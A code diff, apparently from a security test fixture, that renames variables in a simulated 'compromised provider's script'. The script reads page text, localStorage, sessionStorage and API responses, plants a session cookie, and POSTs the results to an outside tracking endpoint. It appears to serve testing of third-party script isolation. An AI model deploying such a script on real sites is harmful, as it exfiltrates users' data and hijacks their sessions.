@@ -1,12 +1,12 @@
 /** Attacks of the script; each result is reported under its name. */
-const ways = `{
+const attacks = `{
   'text of the page': () => parent.document.body.textContent,
   'address of the page': () => parent.location.href,
   'storage of the site': () => JSON.stringify(parent.localStorage),
   'storage of the tab': () => JSON.stringify(parent.sessionStorage),
   'call by the page': () => parent.fetch('/api/holidays').then((answer) => answer.text()),
   'call of the site': () => fetch(site + '/api/holidays').then((answer) => answer.text()),
-  'call of its own host': () => fetch('/api/holidays').then((answer) => answer.text()),
+  'call of its host': () => fetch('/api/holidays').then((answer) => answer.text()),
   'page in a frame': () => new Promise((resolve, reject) => {
     const frame = document.createElement('iframe');
     frame.addEventListener('load', () => {
@@ -18,14 +18,14 @@ const ways = `{
   'another address for the page': () => (top.location = site + '/contact'),
 }`;
 
-/** Number of ways that the script tries. */
-export const waysTried = (ways.match(/^ {2}'/gm) ?? []).length;
+/** Number of attacks that the script tries. */
+export const attackCount = (attacks.match(/^ {2}'/gm) ?? []).length;
 
-/** A session that the script plants, in every way that might reach a call of the console. */
+/** A session cookie that the script plants, for every domain and path that a request of the console might use. */
 const planted = 'DEVXCE0000000000.PERS0N0000000000.'.padEnd(77, 's');
 
 /**
- * A compromised provider's script. It plants cookies for the whole domain, tries every way to reach the surrounding page,
+ * A compromised provider's script. It plants cookies for the whole domain, tries to reach the surrounding page,
  * its storage and the API, and reports each result to the provider's server.
  */
 export const hostileScript = `
@@ -38,7 +38,7 @@ export const hostileScript = `
   const report = (way, result) => fetch('https://www.facebook.com/tr', { method: 'POST', mode: 'no-cors',
     body: JSON.stringify({ way, ...result }) });
   (async () => {
-    for (const [way, tryIt] of Object.entries(${ways})) {
+    for (const [way, tryIt] of Object.entries(${attacks})) {
       try { await report(way, { gave: String(await tryIt()) }); } catch (problem) { await report(way, { refused: problem.name }); }
     }
   })();
